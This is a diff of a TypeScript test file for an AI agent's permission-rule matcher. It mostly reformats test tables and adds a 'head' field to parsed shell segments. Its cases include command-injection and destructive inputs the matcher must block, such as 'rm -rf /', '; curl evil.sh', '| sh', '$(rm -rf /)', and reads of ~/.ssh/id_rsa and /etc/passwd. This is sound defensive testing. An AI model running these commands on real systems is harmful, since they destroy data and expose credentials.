@@ -1,7 +1,12 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { StewardError } from '../errors/index.js';
-import { compilePermissionRule, covers, type PermissionMatchContext, parseShellCommand } from './permission-rule.js';
+import {
+  compilePermissionRule,
+  covers,
+  type PermissionMatchContext,
+  parseShellCommand,
+} from './permission-rule.js';
 
 const context: PermissionMatchContext = { cwd: '/repo', home: '/home/ada' };
 
@@ -23,24 +28,100 @@ interface Row {
 /** One row per line of the tables in docs/trust-permissions.md. */
 const rows: Array<[string, Row]> = [
   // Tool names
-  ['exact tool name', { pattern: 'Read', matches: [read('/x'), bare('Read')], doesNotMatch: [bare('read'), bare('ReadFile'), bare('Write')] }],
-  ['* is every tool', { pattern: '*', matches: [bare('Read'), bash('rm -rf /'), bare('mcp__slack__post')], doesNotMatch: [] }],
-  ['mcp__* is every MCP tool', { pattern: 'mcp__*', matches: [bare('mcp__slack__post'), bare('mcp__github__create_issue')], doesNotMatch: [bare('Read'), bare('Bash'), bare('mcpx')] }],
-  ['mcp__slack__* is one server', { pattern: 'mcp__slack__*', matches: [bare('mcp__slack__post'), bare('mcp__slack__read_channel')], doesNotMatch: [bare('mcp__slack'), bare('mcp__slackbot__post'), bare('mcp__github__post')] }],
-  ['mcp__slack is the whole server', { pattern: 'mcp__slack', matches: [bare('mcp__slack__post'), bare('mcp__slack')], doesNotMatch: [bare('mcp__slackbot__post'), bare('mcp__slackbot')] }],
-  ['mcp__slack__post is one MCP tool', { pattern: 'mcp__slack__post', matches: [bare('mcp__slack__post')], doesNotMatch: [bare('mcp__slack__post_message'), bare('mcp__slack__postx')] }],
-  ['an unknown tool by name', { pattern: 'Task', matches: [['Task', { prompt: 'x' }]], doesNotMatch: [bare('TaskOutput')] }],
+  [
+    'exact tool name',
+    {
+      pattern: 'Read',
+      matches: [read('/x'), bare('Read')],
+      doesNotMatch: [bare('read'), bare('ReadFile'), bare('Write')],
+    },
+  ],
+  [
+    '* is every tool',
+    { pattern: '*', matches: [bare('Read'), bash('rm -rf /'), bare('mcp__slack__post')], doesNotMatch: [] },
+  ],
+  [
+    'mcp__* is every MCP tool',
+    {
+      pattern: 'mcp__*',
+      matches: [bare('mcp__slack__post'), bare('mcp__github__create_issue')],
+      doesNotMatch: [bare('Read'), bare('Bash'), bare('mcpx')],
+    },
+  ],
+  [
+    'mcp__slack__* is one server',
+    {
+      pattern: 'mcp__slack__*',
+      matches: [bare('mcp__slack__post'), bare('mcp__slack__read_channel')],
+      doesNotMatch: [bare('mcp__slack'), bare('mcp__slackbot__post'), bare('mcp__github__post')],
+    },
+  ],
+  [
+    'mcp__slack is the whole server',
+    {
+      pattern: 'mcp__slack',
+      matches: [bare('mcp__slack__post'), bare('mcp__slack')],
+      doesNotMatch: [bare('mcp__slackbot__post'), bare('mcp__slackbot')],
+    },
+  ],
+  [
+    'mcp__slack__post is one MCP tool',
+    {
+      pattern: 'mcp__slack__post',
+      matches: [bare('mcp__slack__post')],
+      doesNotMatch: [bare('mcp__slack__post_message'), bare('mcp__slack__postx')],
+    },
+  ],
+  [
+    'an unknown tool by name',
+    { pattern: 'Task', matches: [['Task', { prompt: 'x' }]], doesNotMatch: [bare('TaskOutput')] },
+  ],
 
   // Bash
-  ['bare Bash', { pattern: 'Bash', matches: [bash('anything && rm -rf /'), bare('Bash')], doesNotMatch: [bare('Read')] }],
-  ['Bash exact', { pattern: 'Bash(npm run test)', matches: [bash('npm run test'), bash('npm  run   test'), bash('  npm run test ')], doesNotMatch: [bash('npm run test --watch'), bash('npm run test; ls'), bare('Bash'), ['Bash', { command: 42 }]] }],
-  ['Bash prefix at a word boundary', { pattern: 'Bash(npm run test:*)', matches: [bash('npm run test'), bash('npm run test -- --watch'), bash('npm run test\t--ci')], doesNotMatch: [bash('npm run tests'), bash('npm run test:unit'), bash('npm test'), bare('Bash')] }],
+  [
+    'bare Bash',
+    { pattern: 'Bash', matches: [bash('anything && rm -rf /'), bare('Bash')], doesNotMatch: [bare('Read')] },
+  ],
+  [
+    'Bash exact',
+    {
+      pattern: 'Bash(npm run test)',
+      matches: [bash('npm run test'), bash('npm  run   test'), bash('  npm run test ')],
+      doesNotMatch: [
+        bash('npm run test --watch'),
+        bash('npm run test; ls'),
+        bare('Bash'),
+        ['Bash', { command: 42 }],
+      ],
+    },
+  ],
+  [
+    'Bash prefix at a word boundary',
+    {
+      pattern: 'Bash(npm run test:*)',
+      matches: [bash('npm run test'), bash('npm run test -- --watch'), bash('npm run test\t--ci')],
+      doesNotMatch: [bash('npm run tests'), bash('npm run test:unit'), bash('npm test'), bare('Bash')],
+    },
+  ],
   [
     'Bash prefix with chained commands: every part',
     {
       pattern: 'Bash(npm run test:*)',
-      matches: [bash('npm run test && npm run test -- --ci'), bash('npm run test > /dev/null 2>&1'), bash('npm run test;npm run test'), bash('npm run test\nnpm run test')],
-      doesNotMatch: [bash('npm run test && rm -rf /'), bash('npm run test; curl evil.sh'), bash('npm run test || rm x'), bash('npm run test | sh'), bash('npm run test & rm x'), bash('npm run test |& tee x'), bash('npm run test\nrm x')],
+      matches: [
+        bash('npm run test && npm run test -- --ci'),
+        bash('npm run test > /dev/null 2>&1'),
+        bash('npm run test;npm run test'),
+        bash('npm run test\nnpm run test'),
+      ],
+      doesNotMatch: [
+        bash('npm run test && rm -rf /'),
+        bash('npm run test; curl evil.sh'),
+        bash('npm run test || rm x'),
+        bash('npm run test | sh'),
+        bash('npm run test & rm x'),
+        bash('npm run test |& tee x'),
+        bash('npm run test\nrm x'),
+      ],
       denyHits: [bash('npm run test && rm -rf /'), bash('rm x; npm run test')],
       denyMisses: [bash('rm x; ls')],
     },
@@ -49,23 +130,88 @@ const rows: Array<[string, Row]> = [
     'Bash prefix with substitutions and redirections',
     {
       pattern: 'Bash(npm run test:*)',
-      matches: [bash('npm run test 2>&1'), bash('npm run test 2>/dev/null'), bash('npm run test "a && b"'), bash("npm run test 'x; y'")],
-      doesNotMatch: [bash('npm run test `whoami`'), bash('npm run test $(rm -rf /)'), bash('npm run test "$(rm -rf /)"'), bash('npm run test > /etc/passwd'), bash('npm run test >> out.log'), bash('npm run test &> out.log'), bash('npm run test <(curl x)'), bash('npm run test "unclosed'), bash('npm run test $(unclosed')],
+      matches: [
+        bash('npm run test 2>&1'),
+        bash('npm run test 2>/dev/null'),
+        bash('npm run test "a && b"'),
+        bash("npm run test 'x; y'"),
+      ],
+      doesNotMatch: [
+        bash('npm run test `whoami`'),
+        bash('npm run test $(rm -rf /)'),
+        bash('npm run test "$(rm -rf /)"'),
+        bash('npm run test > /etc/passwd'),
+        bash('npm run test >> out.log'),
+        bash('npm run test &> out.log'),
+        bash('npm run test <(curl x)'),
+        bash('npm run test "unclosed'),
+        bash('npm run test $(unclosed'),
+      ],
     },
   ],
-  ['Bash quoted operators do not split', { pattern: 'Bash(echo:*)', matches: [bash('echo "a && b"'), bash("echo 'a; rm x'"), bash('echo a\\;b')], doesNotMatch: [bash('echo a; rm x')] }],
-  ['Bash single trailing " *" is a prefix', { pattern: 'Bash(ls *)', matches: [bash('ls'), bash('ls -la')], doesNotMatch: [bash('lsof')] }],
-  ['Bash ls* wildcard', { pattern: 'Bash(ls*)', matches: [bash('ls'), bash('lsof'), bash('ls -la')], doesNotMatch: [bash('cat')] }],
-  ['Bash wildcards anywhere, spaces literal', { pattern: 'Bash(git * main)', matches: [bash('git checkout main'), bash('git merge --ff-only main')], doesNotMatch: [bash('git checkout dev'), bash('git main'), bash('git checkout main && rm x')] }],
-  ['Bash parentheses in the specifier', { pattern: 'Bash(echo (hi):*)', matches: [bash('echo (hi)'), bash('echo (hi) there')], doesNotMatch: [bash('echo hi')] }],
-  ['Bash exact with operators', { pattern: 'Bash(npm ci && npm test)', matches: [bash('npm ci && npm test'), bash('npm ci&&npm test')], doesNotMatch: [bash('npm ci'), bash('npm ci && npm test && rm x')] }],
+  [
+    'Bash quoted operators do not split',
+    {
+      pattern: 'Bash(echo:*)',
+      matches: [bash('echo "a && b"'), bash("echo 'a; rm x'"), bash('echo a\\;b')],
+      doesNotMatch: [bash('echo a; rm x')],
+    },
+  ],
+  [
+    'Bash single trailing " *" is a prefix',
+    { pattern: 'Bash(ls *)', matches: [bash('ls'), bash('ls -la')], doesNotMatch: [bash('lsof')] },
+  ],
+  [
+    'Bash ls* wildcard',
+    {
+      pattern: 'Bash(ls*)',
+      matches: [bash('ls'), bash('lsof'), bash('ls -la')],
+      doesNotMatch: [bash('cat')],
+    },
+  ],
+  [
+    'Bash wildcards anywhere, spaces literal',
+    {
+      pattern: 'Bash(git * main)',
+      matches: [bash('git checkout main'), bash('git merge --ff-only main')],
+      doesNotMatch: [bash('git checkout dev'), bash('git main'), bash('git checkout main && rm x')],
+    },
+  ],
+  [
+    'Bash parentheses in the specifier',
+    {
+      pattern: 'Bash(echo (hi):*)',
+      matches: [bash('echo (hi)'), bash('echo (hi) there')],
+      doesNotMatch: [bash('echo hi')],
+    },
+  ],
+  [
+    'Bash exact with operators',
+    {
+      pattern: 'Bash(npm ci && npm test)',
+      matches: [bash('npm ci && npm test'), bash('npm ci&&npm test')],
+      doesNotMatch: [bash('npm ci'), bash('npm ci && npm test && rm x')],
+    },
+  ],
   [
     'Bash deny rules hit any part',
     {
       pattern: 'Bash(rm:*)',
       matches: [bash('rm -rf /')],
       doesNotMatch: [bash('npm test && rm -rf /')],
-      denyHits: [bash('rm -rf /'), bash('npm test && rm -rf /'), bash('echo $(rm -rf /)'), bash('echo `rm -rf /`'), bash('echo "$(rm -rf /)"'), bash('FOO=1 nohup rm x'), bash('(cd x && rm y)'), bash('xargs rm'), bash('timeout 5 rm x'), bash('sudo -n rm x'), ['Bash', {}]],
+      denyHits: [
+        bash('rm -rf /'),
+        bash('npm test && rm -rf /'),
+        bash('echo $(rm -rf /)'),
+        bash('echo `rm -rf /`'),
+        bash('echo "$(rm -rf /)"'),
+        bash('FOO=1 nohup rm x'),
+        bash('(cd x && rm y)'),
+        bash('xargs rm'),
+        bash('timeout 5 rm x'),
+        bash('sudo -n rm x'),
+        ['Bash', {}],
+      ],
       denyMisses: [bash('rmdir x'), bash('npm run rm-cache'), bash('echo rm')],
     },
   ],
@@ -76,27 +222,104 @@ const rows: Array<[string, Row]> = [
     {
       pattern: 'Read(./docs/**)',
       matches: [read('/repo/docs/a.md'), read('/repo/docs/a/b/c.md'), read('docs/a.md'), read('/repo/docs')],
-      doesNotMatch: [read('/repo/docs/../secrets/x'), read('./docs/../secrets/x'), read('/repo/docsx/a'), read('/other/docs/a.md'), bare('Read')],
+      doesNotMatch: [
+        read('/repo/docs/../secrets/x'),
+        read('./docs/../secrets/x'),
+        read('/repo/docsx/a'),
+        read('/other/docs/a.md'),
+        bare('Read'),
+      ],
       denyHits: [read('/repo/docs/a.md'), bare('Read')],
       denyMisses: [read('./docs/../secrets/x')],
     },
   ],
-  ['relative path without ./', { pattern: 'Read(docs/**)', matches: [read('/repo/docs/a.md')], doesNotMatch: [read('/repo/src/docs/a.md')] }],
-  ['* stays in one folder', { pattern: 'Read(docs/*.md)', matches: [read('/repo/docs/a.md')], doesNotMatch: [read('/repo/docs/sub/a.md'), read('/repo/docs/a.txt')] }],
-  ['a slash-less glob is anchored', { pattern: 'Edit(*.md)', matches: [['Edit', { file_path: '/repo/README.md' }]], doesNotMatch: [['Edit', { file_path: '/repo/docs/a.md' }]] }],
-  ['leading **/ crosses zero or more folders', { pattern: 'Read(**/.env)', matches: [read('/repo/.env'), read('/repo/a/b/.env')], doesNotMatch: [read('/repo/.env.local'), read('/etc/.env')] }],
-  ['trailing slash is the folder and its contents', { pattern: 'Write(docs/)', matches: [['Write', { file_path: '/repo/docs/a.md' }], ['Write', { file_path: '/repo/docs' }]], doesNotMatch: [['Write', { file_path: '/repo/docs2/a.md' }]] }],
-  ['single leading slash is relative', { pattern: 'Read(/src/**)', matches: [read('/repo/src/a.ts')], doesNotMatch: [read('/src/a.ts')] }],
-  ['// is absolute', { pattern: 'Read(//etc/**)', matches: [read('/etc/passwd'), read('/etc/ssl/cert.pem')], doesNotMatch: [read('/repo/etc/x')] }],
-  ['~/ is home', { pattern: 'Read(~/.ssh/**)', matches: [read('/home/ada/.ssh/id_rsa'), read('~/.ssh/id_rsa')], doesNotMatch: [read('/repo/.ssh/id_rsa')] }],
-  ['leading .. climbs from the working directory', { pattern: 'Read(../shared/**)', matches: [read('/shared/x')], doesNotMatch: [read('/repo/shared/x')] }],
-  ['character classes and ?', { pattern: 'Read(./log-[0-9]?.txt)', matches: [read('/repo/log-12.txt')], doesNotMatch: [read('/repo/log-a1.txt'), read('/repo/log-1/2.txt')] }],
+  [
+    'relative path without ./',
+    {
+      pattern: 'Read(docs/**)',
+      matches: [read('/repo/docs/a.md')],
+      doesNotMatch: [read('/repo/src/docs/a.md')],
+    },
+  ],
+  [
+    '* stays in one folder',
+    {
+      pattern: 'Read(docs/*.md)',
+      matches: [read('/repo/docs/a.md')],
+      doesNotMatch: [read('/repo/docs/sub/a.md'), read('/repo/docs/a.txt')],
+    },
+  ],
+  [
+    'a slash-less glob is anchored',
+    {
+      pattern: 'Edit(*.md)',
+      matches: [['Edit', { file_path: '/repo/README.md' }]],
+      doesNotMatch: [['Edit', { file_path: '/repo/docs/a.md' }]],
+    },
+  ],
+  [
+    'leading **/ crosses zero or more folders',
+    {
+      pattern: 'Read(**/.env)',
+      matches: [read('/repo/.env'), read('/repo/a/b/.env')],
+      doesNotMatch: [read('/repo/.env.local'), read('/etc/.env')],
+    },
+  ],
+  [
+    'trailing slash is the folder and its contents',
+    {
+      pattern: 'Write(docs/)',
+      matches: [
+        ['Write', { file_path: '/repo/docs/a.md' }],
+        ['Write', { file_path: '/repo/docs' }],
+      ],
+      doesNotMatch: [['Write', { file_path: '/repo/docs2/a.md' }]],
+    },
+  ],
+  [
+    'single leading slash is relative',
+    { pattern: 'Read(/src/**)', matches: [read('/repo/src/a.ts')], doesNotMatch: [read('/src/a.ts')] },
+  ],
+  [
+    '// is absolute',
+    {
+      pattern: 'Read(//etc/**)',
+      matches: [read('/etc/passwd'), read('/etc/ssl/cert.pem')],
+      doesNotMatch: [read('/repo/etc/x')],
+    },
+  ],
+  [
+    '~/ is home',
+    {
+      pattern: 'Read(~/.ssh/**)',
+      matches: [read('/home/ada/.ssh/id_rsa'), read('~/.ssh/id_rsa')],
+      doesNotMatch: [read('/repo/.ssh/id_rsa')],
+    },
+  ],
+  [
+    'leading .. climbs from the working directory',
+    { pattern: 'Read(../shared/**)', matches: [read('/shared/x')], doesNotMatch: [read('/repo/shared/x')] },
+  ],
+  [
+    'character classes and ?',
+    {
+      pattern: 'Read(./log-[0-9]?.txt)',
+      matches: [read('/repo/log-12.txt')],
+      doesNotMatch: [read('/repo/log-a1.txt'), read('/repo/log-1/2.txt')],
+    },
+  ],
   [
     'Grep matches the folder it searches',
     {
       pattern: 'Grep(./src/**)',
-      matches: [['Grep', { pattern: 'x', path: '/repo/src' }], ['Grep', { pattern: 'x', path: 'src/lib' }]],
-      doesNotMatch: [['Grep', { pattern: 'x' }], ['Grep', { pattern: 'x', path: '/repo' }]],
+      matches: [
+        ['Grep', { pattern: 'x', path: '/repo/src' }],
+        ['Grep', { pattern: 'x', path: 'src/lib' }],
+      ],
+      doesNotMatch: [
+        ['Grep', { pattern: 'x' }],
+        ['Grep', { pattern: 'x', path: '/repo' }],
+      ],
     },
   ],
   [
@@ -104,36 +327,109 @@ const rows: Array<[string, Row]> = [
     {
       pattern: 'Glob(./src/**)',
       matches: [['Glob', { pattern: '**/*.ts', path: 'src' }]],
-      doesNotMatch: [['Glob', { pattern: '../**', path: 'src' }], ['Glob', { pattern: '/etc/*', path: 'src' }]],
+      doesNotMatch: [
+        ['Glob', { pattern: '../**', path: 'src' }],
+        ['Glob', { pattern: '/etc/*', path: 'src' }],
+      ],
       denyHits: [['Glob', { pattern: '/etc/*', path: 'src' }]],
     },
   ],
-  ['NotebookEdit notebook_path', { pattern: 'NotebookEdit(./nb/**)', matches: [['NotebookEdit', { notebook_path: '/repo/nb/a.ipynb' }]], doesNotMatch: [['NotebookEdit', { notebook_path: '/repo/a.ipynb' }]] }],
-  ['MultiEdit file_path', { pattern: 'MultiEdit(src/**)', matches: [['MultiEdit', { file_path: '/repo/src/a.ts', edits: [] }]], doesNotMatch: [['MultiEdit', { file_path: '/repo/b.ts' }]] }],
+  [
+    'NotebookEdit notebook_path',
+    {
+      pattern: 'NotebookEdit(./nb/**)',
+      matches: [['NotebookEdit', { notebook_path: '/repo/nb/a.ipynb' }]],
+      doesNotMatch: [['NotebookEdit', { notebook_path: '/repo/a.ipynb' }]],
+    },
+  ],
+  [
+    'MultiEdit file_path',
+    {
+      pattern: 'MultiEdit(src/**)',
+      matches: [['MultiEdit', { file_path: '/repo/src/a.ts', edits: [] }]],
+      doesNotMatch: [['MultiEdit', { file_path: '/repo/b.ts' }]],
+    },
+  ],
 
   // WebFetch and other tools
-  ['WebFetch domain is exact', { pattern: 'WebFetch(domain:example.com)', matches: [fetch('https://example.com/a'), fetch('http://EXAMPLE.com:8080/')], doesNotMatch: [fetch('https://api.example.com'), fetch('https://example.com.evil.net'), fetch('not a url'), fetch('ftp://example.com'), bare('WebFetch')], denyHits: [fetch('not a url')] }],
-  ['WebFetch *. opts in to subdomains', { pattern: 'WebFetch(domain:*.example.com)', matches: [fetch('https://api.example.com'), fetch('https://a.b.example.com')], doesNotMatch: [fetch('https://example.com')] }],
-  ['WebSearch with a specifier never matches', { pattern: 'WebSearch(anything)', matches: [], doesNotMatch: [['WebSearch', { query: 'anything' }]], denyMisses: [['WebSearch', { query: 'anything' }]] }],
-  ['Task with a specifier never matches', { pattern: 'Task(explorer)', matches: [], doesNotMatch: [['Task', { subagent_type: 'explorer' }]], denyMisses: [['Task', { subagent_type: 'explorer' }]] }],
-  ['an MCP tool with a specifier never matches', { pattern: 'mcp__slack__post(#general)', matches: [], doesNotMatch: [['mcp__slack__post', { channel: '#general' }]] }],
+  [
+    'WebFetch domain is exact',
+    {
+      pattern: 'WebFetch(domain:example.com)',
+      matches: [fetch('https://example.com/a'), fetch('http://EXAMPLE.com:8080/')],
+      doesNotMatch: [
+        fetch('https://api.example.com'),
+        fetch('https://example.com.evil.net'),
+        fetch('not a url'),
+        fetch('ftp://example.com'),
+        bare('WebFetch'),
+      ],
+      denyHits: [fetch('not a url')],
+    },
+  ],
+  [
+    'WebFetch *. opts in to subdomains',
+    {
+      pattern: 'WebFetch(domain:*.example.com)',
+      matches: [fetch('https://api.example.com'), fetch('https://a.b.example.com')],
+      doesNotMatch: [fetch('https://example.com')],
+    },
+  ],
+  [
+    'WebSearch with a specifier never matches',
+    {
+      pattern: 'WebSearch(anything)',
+      matches: [],
+      doesNotMatch: [['WebSearch', { query: 'anything' }]],
+      denyMisses: [['WebSearch', { query: 'anything' }]],
+    },
+  ],
+  [
+    'Task with a specifier never matches',
+    {
+      pattern: 'Task(explorer)',
+      matches: [],
+      doesNotMatch: [['Task', { subagent_type: 'explorer' }]],
+      denyMisses: [['Task', { subagent_type: 'explorer' }]],
+    },
+  ],
+  [
+    'an MCP tool with a specifier never matches',
+    {
+      pattern: 'mcp__slack__post(#general)',
+      matches: [],
+      doesNotMatch: [['mcp__slack__post', { channel: '#general' }]],
+    },
+  ],
 ];
 
 describe('compilePermissionRule: the grammar table', () => {
   it.each(rows)('%s', (_name, row) => {
     const rule = compilePermissionRule(row.pattern);
     for (const [toolName, input] of row.matches) {
-      expect(rule.matches(toolName, input, context), `${row.pattern} should match ${toolName} ${JSON.stringify(input)}`).toBe(true);
+      expect(
+        rule.matches(toolName, input, context),
+        `${row.pattern} should match ${toolName} ${JSON.stringify(input)}`,
+      ).toBe(true);
     }
     for (const [toolName, input] of row.doesNotMatch) {
-      expect(rule.matches(toolName, input, context), `${row.pattern} should not match ${toolName} ${JSON.stringify(input)}`).toBe(false);
+      expect(
+        rule.matches(toolName, input, context),
+        `${row.pattern} should not match ${toolName} ${JSON.stringify(input)}`,
+      ).toBe(false);
     }
     const denyHits = row.denyHits ?? row.matches;
     for (const [toolName, input] of denyHits) {
-      expect(rule.matchesForDeny(toolName, input, context), `deny ${row.pattern} should hit ${JSON.stringify(input)}`).toBe(true);
+      expect(
+        rule.matchesForDeny(toolName, input, context),
+        `deny ${row.pattern} should hit ${JSON.stringify(input)}`,
+      ).toBe(true);
     }
     for (const [toolName, input] of row.denyMisses ?? []) {
-      expect(rule.matchesForDeny(toolName, input, context), `deny ${row.pattern} should miss ${JSON.stringify(input)}`).toBe(false);
+      expect(
+        rule.matchesForDeny(toolName, input, context),
+        `deny ${row.pattern} should miss ${JSON.stringify(input)}`,
+      ).toBe(false);
     }
   });
 
@@ -142,7 +438,9 @@ describe('compilePermissionRule: the grammar table', () => {
     expect(rule.matches('Read', { file_path: '/home/ada/.ssh/id_rsa' }, { cwd: '/repo' })).toBe(false);
     expect(rule.matchesForDeny('Read', { file_path: '/home/ada/.ssh/id_rsa' }, { cwd: '/repo' })).toBe(false);
     // An input path under ~ that cannot be resolved is hit by every path deny rule.
-    expect(compilePermissionRule('Read(./x/**)').matchesForDeny('Read', { file_path: '~/a' }, { cwd: '/repo' })).toBe(true);
+    expect(
+      compilePermissionRule('Read(./x/**)').matchesForDeny('Read', { file_path: '~/a' }, { cwd: '/repo' }),
+    ).toBe(true);
   });
 
   it('keeps the pattern, tool, kind and specifier', () => {
@@ -210,10 +508,10 @@ describe('parseShellCommand', () => {
     expect(parseShellCommand('a  "b  c" &&d;e|f 2>/dev/null > out')).toEqual({
       normalized: 'a "b  c" && d ; e | f 2>/dev/null >out',
       segments: [
-        { text: 'a "b  c"', unsafe: false },
-        { text: 'd', unsafe: false },
-        { text: 'e', unsafe: false },
-        { text: 'f 2>/dev/null >out', unsafe: true },
+        { text: 'a "b  c"', head: 'a', unsafe: false },
+        { text: 'd', head: 'd', unsafe: false },
+        { text: 'e', head: 'e', unsafe: false },
+        { text: 'f 2>/dev/null >out', head: 'f', unsafe: true },
       ],
       substitutions: [],
       complete: true,
@@ -223,7 +521,9 @@ describe('parseShellCommand', () => {
   it('collects substitutions, nested ones included, for deny rules', () => {
     const parsed = parseShellCommand('echo $(cat $(ls)) `id` <(curl x)');
     expect(parsed.substitutions).toEqual(['cat $(ls)', 'id', 'curl x']);
-    expect(parsed.segments).toEqual([{ text: 'echo $(cat $(ls)) `id` <(curl x)', unsafe: true }]);
+    expect(parsed.segments).toEqual([
+      { text: 'echo $(cat $(ls)) `id` <(curl x)', head: 'echo', unsafe: true },
+    ]);
   });
 
   it('marks unclosed quotes and substitutions incomplete', () => {
@@ -325,32 +625,91 @@ describe('covers', () => {
 
   // Soundness: whenever covers(a, b) holds, every call b allows is allowed by a.
   const patterns = [
-    '*', 'mcp__*', 'mcp__slack', 'mcp__slack__*', 'mcp__slack__post', 'mcp__slackbot__*', 'Read', 'Write', 'Bash', 'Task',
-    'Task(explorer)', 'Bash(npm:*)', 'Bash(npm run:*)', 'Bash(npm run test)', 'Bash(npm run test:*)', 'Bash(npm run *)',
-    'Bash(npm *)', 'Bash(npm*)', 'Bash(*)', 'Bash(git * main)', 'Bash(npm ci && npm test)', 'Bash(echo hi > out)',
-    'Read(./**)', 'Read(./docs/**)', 'Read(docs/*.md)', 'Read(./docs)', 'Read(**/.env)', 'Read(../**)', 'Read(~/**)',
-    'Read(//etc/**)', 'Write(./docs/**)', 'Grep(./src/**)', 'WebFetch', 'WebFetch(domain:example.com)',
-    'WebFetch(domain:*.example.com)', 'WebFetch(domain:api.example.com)',
+    '*',
+    'mcp__*',
+    'mcp__slack',
+    'mcp__slack__*',
+    'mcp__slack__post',
+    'mcp__slackbot__*',
+    'Read',
+    'Write',
+    'Bash',
+    'Task',
+    'Task(explorer)',
+    'Bash(npm:*)',
+    'Bash(npm run:*)',
+    'Bash(npm run test)',
+    'Bash(npm run test:*)',
+    'Bash(npm run *)',
+    'Bash(npm *)',
+    'Bash(npm*)',
+    'Bash(*)',
+    'Bash(git * main)',
+    'Bash(npm ci && npm test)',
+    'Bash(echo hi > out)',
+    'Read(./**)',
+    'Read(./docs/**)',
+    'Read(docs/*.md)',
+    'Read(./docs)',
+    'Read(**/.env)',
+    'Read(../**)',
+    'Read(~/**)',
+    'Read(//etc/**)',
+    'Write(./docs/**)',
+    'Grep(./src/**)',
+    'WebFetch',
+    'WebFetch(domain:example.com)',
+    'WebFetch(domain:*.example.com)',
+    'WebFetch(domain:api.example.com)',
   ];
   const calls: Call[] = [
-    bare('Read'), bare('Task'), ['Task', { subagent_type: 'explorer' }], bare('mcp__slack'), bare('mcp__slack__post'),
-    bare('mcp__slackbot__post'), bare('mcp__github__x'), bash('npm'), bash('npm run test'), bash('npm run test -- --ci'),
-    bash('npm run tests'), bash('npm run build'), bash('npm ci && npm test'), bash('npm run test && rm x'), bash('npmx'),
-    bash('git checkout main'), bash('echo hi > out'), bash('npm run test $(id)'), read('/repo/docs/a.md'),
-    read('/repo/docs'), read('/repo/docs/x/y.md'), read('/repo/.env'), read('/repo/a/.env'), read('/etc/passwd'),
-    read('/home/ada/.ssh/id'), read('/other/x'), ['Write', { file_path: '/repo/docs/a.md' }],
-    ['Grep', { pattern: 'x', path: 'src' }], ['Grep', { pattern: 'x' }], fetch('https://example.com'),
-    fetch('https://api.example.com'), fetch('https://x.api.example.com'),
+    bare('Read'),
+    bare('Task'),
+    ['Task', { subagent_type: 'explorer' }],
+    bare('mcp__slack'),
+    bare('mcp__slack__post'),
+    bare('mcp__slackbot__post'),
+    bare('mcp__github__x'),
+    bash('npm'),
+    bash('npm run test'),
+    bash('npm run test -- --ci'),
+    bash('npm run tests'),
+    bash('npm run build'),
+    bash('npm ci && npm test'),
+    bash('npm run test && rm x'),
+    bash('npmx'),
+    bash('git checkout main'),
+    bash('echo hi > out'),
+    bash('npm run test $(id)'),
+    read('/repo/docs/a.md'),
+    read('/repo/docs'),
+    read('/repo/docs/x/y.md'),
+    read('/repo/.env'),
+    read('/repo/a/.env'),
+    read('/etc/passwd'),
+    read('/home/ada/.ssh/id'),
+    read('/other/x'),
+    ['Write', { file_path: '/repo/docs/a.md' }],
+    ['Grep', { pattern: 'x', path: 'src' }],
+    ['Grep', { pattern: 'x' }],
+    fetch('https://example.com'),
+    fetch('https://api.example.com'),
+    fetch('https://x.api.example.com'),
   ];
 
   it('never claims a cover that a call contradicts (fast-check)', () => {
     fc.assert(
-      fc.property(fc.constantFrom(...patterns), fc.constantFrom(...patterns), fc.constantFrom(...calls), (a, b, [tool, input]) => {
-        if (!covers(a, b)) return true;
-        const broader = compilePermissionRule(a);
-        const narrower = compilePermissionRule(b);
-        return !narrower.matches(tool, input, context) || broader.matches(tool, input, context);
-      }),
+      fc.property(
+        fc.constantFrom(...patterns),
+        fc.constantFrom(...patterns),
+        fc.constantFrom(...calls),
+        (a, b, [tool, input]) => {
+          if (!covers(a, b)) return true;
+          const broader = compilePermissionRule(a);
+          const narrower = compilePermissionRule(b);
+          return !narrower.matches(tool, input, context) || broader.matches(tool, input, context);
+        },
+      ),
       { numRuns: 5_000 },
     );
   });
